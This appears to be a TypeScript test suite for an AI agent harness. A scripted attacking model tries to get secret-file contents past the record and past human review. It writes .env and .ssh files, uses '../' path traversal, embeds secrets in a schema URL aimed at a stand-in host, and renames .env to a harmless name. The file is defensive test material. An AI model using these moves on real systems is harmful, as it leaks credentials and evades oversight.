// Attacks with secrets that an agent writes, moves or shows beside a request.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { suite, test } from "node:test";
import { questionView } from "../../../src/views/questions/question.ts";
import { english } from "../../../src/views/words/translate.ts";
import { ALL, on } from "../scratch.ts";
import { Attacker, type Order } from "../attacker.ts";
import { VALUES, ENV, playing, read, leaves, found } from "./secret.ts";

/** The lines of a secret file that an agent itself writes: each is nowhere but in the file and before a person. */
const OWN = { OWN_LINE: "petersilie-und-dill-in-essig", OWN_SALT: "blumenkohl/9876+abc" } as const;

const OWN_ENV = Object.entries(OWN)
  .map(([name, value]) => `${name}=${value}\n`)
  .join("");

/** Ways to a secret file by which its new content could come into the record, and whether it is written. */
const WRITES: readonly (readonly [
  title: string,
  orders: readonly Order[],
  answer: "once" | "no",
  path?: string,
])[] = [
  ["written", [{ tool: "write_file", args: { path: ".env", content: OWN_ENV } }], "once", ".env"],
  ["refused", [{ tool: "write_file", args: { path: ".env", content: OWN_ENV } }], "no"],
  [
    "edited",
    [{ tool: "edit_file", args: { path: "./.env", old_text: "a\n", new_text: OWN_ENV } }],
    "once",
    ".env",
  ],
  ["found missing", [{ tool: "edit_file", args: { path: ".env", old_text: OWN_ENV, new_text: "a" } }], "no"],
  [
    "called wrongly",
    [
      { tool: "write_file", args: { path: "app/.env", content: OWN_ENV, mode: "600" } },
      { tool: "write_file", args: { file: "app/.ssh/id_rsa", content: OWN_ENV } },
      { tool: "write", args: { path: "../../.env", content: OWN_ENV } },
    ],
    "once",
  ],
  ["led out of the workspace", [{ tool: "write_file", args: { path: "../.env", content: OWN_ENV } }], "once"],
  [
    "in a folder that an earlier call went to",
    [
      { tool: "change_directory", args: { path: ".ssh" } },
      { tool: "write_file", args: { path: "known", content: OWN_ENV } },
    ],
    "once",
    ".ssh/known",
  ],
  [
    "written with an address that an editor would fetch",
    [
      {
        tool: "write_file",
        args: {
          path: ".env.json",
          content: `{"$schema": "https://a.example/?${OWN.OWN_LINE}=${OWN.OWN_SALT}"}`,
        },
      },
    ],
    "no",
  ],
  ["searched", [{ tool: "search_text", args: { path: ".env", query: OWN.OWN_LINE } }], "once"],
  [
    "made of an object",
    [
      { tool: "put_object", args: { name: "o", type: "text", value: "nothing-of-importance-4711\n" } },
      { tool: "object_to_file", args: { name: "o", path: ".env.new" } },
    ],
    "once",
  ],
];

suite("Q7: a secret file that an agent writes", { concurrency: 4 }, () => {
  for (const [title, orders, answer, path] of WRITES) {
    test(title, () =>
      on(async (scratch) => {
        scratch.put({ dir: "app/.ssh" });
        const model = playing([() => orders, () => (path === undefined ? "done" : `It was ${OWN_ENV}`)]);
        const play = { grants: ALL, answer, ...(model && { model }) };
        const attacker = await Attacker.open(scratch, play);
        attacker.launch({ turns: [] }, play.grants);
        await attacker.on.kernel.rest();
        assert.deepEqual(found(leaves(scratch, attacker), OWN), []);
        if (path !== undefined) assert.ok(readFileSync(scratch.at(`app/${path}`), "utf8").includes(OWN_ENV));
        await attacker.close();
      }),
    );
  }
});

/** Ways by which the content of the file comes to be known under another name, or without being read. */
const AROUND: readonly (readonly [title: string, orders: readonly (readonly Order[])[]])[] = [
  [
    "moved to a name that is no secret",
    [[{ tool: "move_file", args: { from: ".env", to: "settings.txt" } }], [read("settings.txt")]],
  ],
  [
    "edited without being read",
    [
      [
        {
          tool: "edit_file",
          args: { path: ".env", old_text: "NODE_ENV=production", new_text: "NODE_ENV=test" },
        },
      ],
    ],
  ],
  ["searched", [[{ tool: "search_text", args: { path: ".env", query: "=" } }]]],
  ["read in part", [[{ tool: "read_file", args: { path: ".env", start_line: 2, end_line: 5 } }]]],
];

for (const [title, orders] of AROUND) {
  test(`Q7: what was ${title} is not on record`, () =>
    on(async (scratch) => {
      scratch.put({ file: "app/.env", text: ENV });
      const said = `So it is ${Object.values(VALUES).join(" and ")}.`;
      const model = playing([...orders.map((each) => () => each), () => said]);
      const play = { grants: ALL, answer: "once" as const, ...(model && { model }) };
      const attacker = await Attacker.open(scratch, play);
      attacker.launch({ turns: [] }, play.grants);
      await attacker.on.kernel.rest();
      assert.deepEqual(
        attacker.came(2).map((came) => came.outcome),
        orders.flat().map(() => "ok"),
      );
      assert.deepEqual(found(leaves(scratch, attacker)), []);
      await attacker.close();
    }));
}

/** What the file holds before: text, which is compared, and bytes, beside which the request itself is shown. */
for (const before of ["TOKEN=zwiebel-4711-env-value a\n", "\0"]) {
  test(`Q7: a person reviews the real text over ${JSON.stringify(before)}, and a restart ends the request`, () =>
    on(async (scratch) => {
      scratch.put({ file: "app/.env", text: before });
      const order = { tool: "write_file", args: { path: ".env", content: OWN_ENV } };
      const model = playing([() => [order], () => "done"]);
      const play = { grants: ALL, answer: "open" as const, ...(model && { model }) };
      const first = await Attacker.open(scratch, play);
      const pid = first.launch({ turns: [] }, play.grants);
      await first.on.kernel.rest();
      const { kernel, person } = first.on;
      const asked = [...kernel.state.questions.values()][0]?.question;
      assert.ok(asked);
      const view = questionView(english, kernel, asked, kernel.previewOf(asked), person);
      assert.ok(view.content.includes(OWN.OWN_LINE) && view.content.includes(OWN.OWN_SALT), view.content);
      assert.deepEqual(found(JSON.stringify(asked), OWN), []);
      await first.close();
      const again = await Attacker.open(scratch, play, "write");
      again.on.kernel.resumeAll();
      await again.on.kernel.rest();
      const [came] = again.came(pid);
      assert.deepEqual([came?.code, came?.outcome], ["ESTALE", "not-run"]);
      assert.match(came?.message ?? "", /kept out of the record/u);
      assert.equal(readFileSync(scratch.at("app/.env"), "utf8"), before);
      await again.close();
    }));
}
